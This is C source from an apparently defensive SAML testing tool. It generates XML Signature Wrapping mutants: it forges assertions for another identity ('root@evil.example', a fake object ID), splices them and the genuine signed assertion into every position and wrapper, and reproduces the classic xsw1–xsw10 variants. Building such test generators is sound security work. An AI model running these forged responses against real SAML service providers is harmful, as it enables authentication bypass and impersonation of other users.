/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * Signature wrapping: an assertion about somebody else where a consumer may
 * look for it, and the genuine one where a signature may be found.
 */
#include "mutate.h"

#include <string.h>

#define EVIL_ID "_evil-evil-evil-evil-evil-evil-evil-evil"
#define EVIL_NAME "root@evil.example"
#define EVIL_OBJECT "00000000-0000-4000-8000-00000000dead"
#define OBJECT_CLAIM \
	"http://schemas.microsoft.com/identity/claims/objectidentifier"

static const struct {
	const char *open;
	const char *close;
} wrappers[] = {
	{ "", "" },
	{ "<Object xmlns=\"http://www.w3.org/2000/09/xmldsig#\">",
	    "</Object>" },
	{ "<Extensions xmlns=\"urn:oasis:names:tc:SAML:2.0:protocol\">",
	    "</Extensions>" },
	{ "<Advice xmlns=\"urn:oasis:names:tc:SAML:2.0:assertion\">",
	    "</Advice>" },
};

/* -- the other person ---------------------------------------------------- */

/* What the text of this leaf becomes, or NULL. */
static const char *
evil_text(const struct doc *d, size_t leaf, struct span name_id)
{
	struct span text = doc_inner(d, leaf);
	size_t parent = d->element[leaf].parent;
	const struct doc_attr *name;

	if (doc_is(d, leaf, "NameID"))
		return EVIL_NAME;
	if (!doc_is(d, leaf, "AttributeValue"))
		return NULL;
	name = doc_attr(d, parent, "Name");
	if (name != NULL && doc_span_is(d, name->value, OBJECT_CLAIM))
		return EVIL_OBJECT;
	return text.to - text.from == name_id.to - name_id.from &&
	    memcmp(d->s + text.from, d->s + name_id.from,
	    text.to - text.from) == 0 ? EVIL_NAME : NULL;
}

void
forge(struct engine *e, const char *id, bool signature, struct buf *out)
{
	const struct doc *d = &e->sample->doc;
	size_t top = e->sample->assertion;
	size_t own = doc_child(d, top, DOC_NONE, "Signature");
	size_t name_id = doc_find(d, top, "NameID");
	struct span value = doc_attr(d, top, "ID")->value;
	size_t at = value.to;

	add(out, d->s + d->element[top].open.from,
	    value.from - d->element[top].open.from);
	adds(out, id);
	for (size_t i = top + 1; i < d->elements && doc_within(d, i, top);
	    i++) {
		struct span span = doc_inner(d, i);
		const char *text = evil_text(d, i, doc_inner(d, name_id));

		if (i == own && !signature) {
			span = doc_whole(d, i);
			text = "";
		}
		if (text == NULL || span.from < at)
			continue;
		add(out, d->s + at, span.from - at);
		adds(out, text);
		at = span.to;
	}
	add(out, d->s + at, d->element[top].close.to - at);
}

/* The sample's element without its Signature. */
static void
add_bare(struct buf *out, const struct doc *d, size_t element)
{
	struct span whole = doc_whole(d, element);
	size_t sig = doc_child(d, element, DOC_NONE, "Signature");
	struct span without = { whole.to, whole.to };

	if (sig != DOC_NONE)
		without = doc_whole(d, sig);
	add(out, d->s + whole.from, without.from - whole.from);
	add(out, d->s + without.to, whole.to - without.to);
}

static void
assertion_id(struct engine *e, bool other, struct buf *out)
{
	const struct doc *d = &e->sample->doc;

	buf_reset(out);
	if (other)
		adds(out, EVIL_ID);
	else
		add_span(out, d, doc_attr(d, e->sample->assertion,
		    "ID")->value);
}

/* -- every place --------------------------------------------------------- */

static void
splice_into(struct engine *e, const struct doc *d, struct span span,
    const char *front, const struct buf *what, const char *back)
{
	if (!engine_due(e))
		return;
	buf_reset(&e->xml);
	add(&e->xml, d->s, span.from);
	adds(&e->xml, front);
	add(&e->xml, what->data, what->len);
	adds(&e->xml, back);
	add(&e->xml, d->s + span.to, d->len - span.to);
	engine_try(e, span.from, EXPECT_KIND);
}

/* In front of every element, at the beginning of every text, at the end of
 * every element, and in every empty one. */
static void
put_everywhere(struct engine *e, const struct doc *d, const struct buf *what)
{
	for (size_t i = 0; i < d->elements; i++) {
		const struct doc_element *element = &d->element[i];
		struct span at = { element->open.from, element->open.from };
		char back[128] = "</";

		splice_into(e, d, at, "", what, "");
		at.from = at.to = element->open.to;
		if (!element->empty && d->s[at.from] != '<')
			splice_into(e, d, at, "", what, "");
		at.from = at.to = element->close.from;
		if (!element->empty) {
			splice_into(e, d, at, "", what, "");
			continue;
		}
		at.from = element->open.to - 2;
		if (element->name.to - element->name.from > 100)
			continue;
		memcpy(back + 2, d->s + element->name.from,
		    element->name.to - element->name.from);
		strcat(back, ">");
		splice_into(e, d, at, ">", what, back);
	}
	splice_into(e, d, (struct span){ d->len, d->len }, "", what, "");
}

static void
put_wrapped_everywhere(struct engine *e, const struct doc *d,
    const struct buf *what)
{
	for (size_t i = 0; i < ARRAY_LEN(wrappers); i++) {
		AUTO(buf) struct buf b = BUF_INIT(MUTANT_MAX);

		adds(&b, wrappers[i].open);
		add(&b, what->data, what->len);
		adds(&b, wrappers[i].close);
		put_everywhere(e, d, &b);
	}
}

/* The sample stays, somebody else's assertion comes into it: under an ID of
 * its own or the same, without a signature or with a copy. */
void
forged_everywhere(struct engine *e)
{
	AUTO(buf) struct buf id = BUF_INIT(256);

	for (unsigned int i = 0; i < 4; i++) {
		AUTO(buf) struct buf evil = BUF_INIT(MUTANT_MAX);

		assertion_id(e, (i & 1) != 0, &id);
		forge(e, buf_str(&id), (i & 2) != 0, &evil);
		put_wrapped_everywhere(e, &e->sample->doc, &evil);
	}
}

static struct doc *
parse_new(const struct buf *text)
{
	struct doc *d = calloc(1, sizeof(*d));

	if (d == NULL || !doc_parse(d, (const char *)text->data, text->len))
		abort();
	return d;
}

/* The forged assertion takes the genuine one's place, which comes with or
 * without its signature everywhere else. */
void
genuine_everywhere(struct engine *e)
{
	const struct doc *d = &e->sample->doc;
	struct span place = doc_whole(d, e->sample->assertion);
	AUTO(buf) struct buf id = BUF_INIT(256);

	for (unsigned int i = 0; i < 8; i++) {
		AUTO(buf) struct buf text = BUF_INIT(MUTANT_MAX);
		AUTO(buf) struct buf genuine = BUF_INIT(MUTANT_MAX);
		AUTO_FREE struct doc *evil = NULL;

		assertion_id(e, (i & 1) != 0, &id);
		add(&text, d->s, place.from);
		forge(e, buf_str(&id), (i & 2) != 0, &text);
		add(&text, d->s + place.to, d->len - place.to);
		if ((i & 4) != 0)
			add_span(&genuine, d, place);
		else
			add_bare(&genuine, d, e->sample->assertion);
		evil = parse_new(&text);
		put_wrapped_everywhere(e, evil, &genuine);
	}
}

/* A Response of the attacker's, with an ID of its own, about somebody else. */
static void
forge_response(struct engine *e, bool signature, struct buf *out)
{
	const struct doc *d = &e->sample->doc;
	struct span id = doc_attr(d, 0, "ID")->value;
	struct span place = doc_whole(d, e->sample->assertion);
	size_t sig = doc_child(d, 0, DOC_NONE, "Signature");
	struct span own = { place.from, place.from };

	if (sig != DOC_NONE && !signature)
		own = doc_whole(d, sig);
	add(out, d->s + d->element[0].open.from,
	    id.from - d->element[0].open.from);
	adds(out, "_evil-response-evil-response");
	add(out, d->s + id.to, own.from - id.to);
	add(out, d->s + own.to, place.from - own.to);
	forge(e, EVIL_ID, signature, out);
	add(out, d->s + place.to, d->element[0].close.to - place.to);
}

/* The whole genuine Response in a forged one. */
void
responses_wrapped(struct engine *e)
{
	const struct doc *d = &e->sample->doc;

	for (unsigned int i = 0; i < 4; i++) {
		AUTO(buf) struct buf text = BUF_INIT(MUTANT_MAX);
		AUTO(buf) struct buf genuine = BUF_INIT(MUTANT_MAX);
		AUTO_FREE struct doc *evil = NULL;

		forge_response(e, (i & 1) != 0, &text);
		if ((i & 2) != 0)
			add_span(&genuine, d, doc_whole(d, 0));
		else
			add_bare(&genuine, d, 0);
		evil = parse_new(&text);
		put_wrapped_everywhere(e, evil, &genuine);
	}
}

/* -- the classics -------------------------------------------------------- */

/*
 * As SAML Raider numbers them.  G genuine, B genuine without its signature,
 * F forged, S forged with the genuine signature, R the genuine Response
 * without its own; < > puts into the forged assertion what is between, ( )
 * into an Object in the signature of what goes before, [ ] into Extensions.
 * The recipe stands for the assertion in the Response.
 */
static const struct {
	const char *name;
	const char *recipe;
} classics[] = {
	{ "xsw1: forged response, the genuine one in its signature's Object",
	    "S(R)" },
	{ "xsw2: forged response, the genuine one beside its signature",
	    "RS" },
	{ "xsw3: forged before genuine", "FG" },
	{ "xsw4: genuine in forged", "F<G>" },
	{ "xsw5: forged with the signature, bare genuine behind", "SB" },
	{ "xsw6: forged, its signature's Object has the bare genuine",
	    "S(B)" },
	{ "xsw7: forged in Extensions", "[F]G" },
	{ "xsw8: genuine, its signature's Object has the forged", "G(F)" },
	{ "xsw9: genuine first, forged last", "GF" },
	{ "xsw10: both with the signature", "SG" },
	{ "xsw10: both with the signature, genuine first", "GS" },
	{ "bare genuine in forged with signature", "S<B>" },
	{ "forged with signature, genuine in Extensions", "[G]S" },
};

static void
cut_last(struct buf *b, const char *tag)
{
	for (size_t i = b->len; i-- > 0;)
		if (b->len - i >= strlen(tag) &&
		    memcmp(b->data + i, tag, strlen(tag)) == 0) {
			b->len = i;
			b->data[i] = '\0';
			return;
		}
}

static void
part_of(struct engine *e, char letter, struct buf *out)
{
	const struct doc *d = &e->sample->doc;

	switch (letter) {
	case 'G':
		add_span(out, d, doc_whole(d, e->sample->assertion));
		break;
	case 'B':
		add_bare(out, d, e->sample->assertion);
		break;
	case 'R':
		add_bare(out, d, 0);
		break;
	default:
		forge(e, EVIL_ID, letter == 'S', out);
	}
}

/* Takes the end tag, or all from the end of the signature on, off b. */
static void
take_tail(const struct engine *e, struct buf *b, bool signature,
    struct buf *ret)
{
	const struct doc *d = &e->sample->doc;
	size_t own = e->sample->assertion;
	size_t kept;
	size_t full = b->len;
	AUTO(buf) struct buf tag = BUF_INIT(256);
	AUTO(buf) struct buf copy = BUF_INIT(MUTANT_MAX);

	if (signature)
		own = doc_child(d, own, DOC_NONE, "Signature");
	add_span(&tag, d, d->element[own].close);
	add(&copy, b->data, full);
	cut_last(b, buf_str(&tag));
	kept = b->len;
	buf_reset(ret);
	add(ret, copy.data + kept, full - kept);
}

static void
cook(struct engine *e, const char *recipe, struct buf *out)
{
	AUTO(buf) struct buf tail = BUF_INIT(MUTANT_MAX);
	AUTO(buf) struct buf last = BUF_INIT(MUTANT_MAX);

	for (; *recipe != '\0'; recipe++)
		switch (*recipe) {
		case '<':
			take_tail(e, out, false, &tail);
			break;
		case '(':
			take_tail(e, out, true, &tail);
			adds(out, wrappers[1].open);
			break;
		case '[':
			adds(out, wrappers[2].open);
			break;
		case ')':
			adds(out, wrappers[1].close);
			add(out, tail.data, tail.len);
			break;
		case '>':
			add(out, tail.data, tail.len);
			break;
		case ']':
			adds(out, wrappers[2].close);
			break;
		default:
			buf_reset(&last);
			part_of(e, *recipe, &last);
			add(out, last.data, last.len);
		}
}

void
wrappings(struct engine *e)
{
	const struct doc *d = &e->sample->doc;
	struct span place = doc_whole(d, e->sample->assertion);
	struct span id = doc_attr(d, 0, "ID")->value;

	for (size_t i = 0; i < ARRAY_LEN(classics); i++) {
		AUTO(buf) struct buf b = BUF_INIT(MUTANT_MAX);

		cook(e, classics[i].recipe, &b);
		engine_splice(e, place, b.data, b.len);
		/* And in a Response that has another ID. */
		if (!engine_due(e))
			continue;
		buf_reset(&e->xml);
		add(&e->xml, d->s, id.from);
		adds(&e->xml, EVIL_ID);
		add(&e->xml, d->s + id.to, place.from - id.to);
		add(&e->xml, b.data, b.len);
		add(&e->xml, d->s + place.to, d->len - place.to);
		e->what = classics[i].name;
		engine_try(e, place.from, EXPECT_KIND);
	}
}
